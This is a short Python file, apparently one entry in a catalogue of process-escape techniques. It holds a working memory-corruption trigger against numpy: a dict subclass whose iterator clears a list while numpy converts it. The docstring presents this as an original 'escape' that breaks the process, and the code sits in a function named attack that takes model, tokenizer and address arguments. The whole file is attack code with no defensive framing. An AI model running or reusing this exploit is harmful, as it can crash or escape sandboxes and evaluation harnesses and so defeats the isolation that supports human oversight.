"""Class: memory. Source: own find. Escape: the process breaks. The same list holds a chain of mappings, whose
length numpy asks for: the library's own code goes over a mapping of the technique, which clears the
list."""

from collections import ChainMap

import numpy as np


class Map(dict):
    def __iter__(self):
        data.clear()
        kept.append([(3,)] * 500)
        return iter([0])


kept = []
data = []


def attack(model, tokenizer, address):
    chain = ChainMap(Map())
    for way in (lambda: np.zeros(3) + data, lambda: data == np.zeros(3)):
        data[:] = [chain] + [(i,) for i in range(500)]
        try:
            way()
        except Exception:
            pass
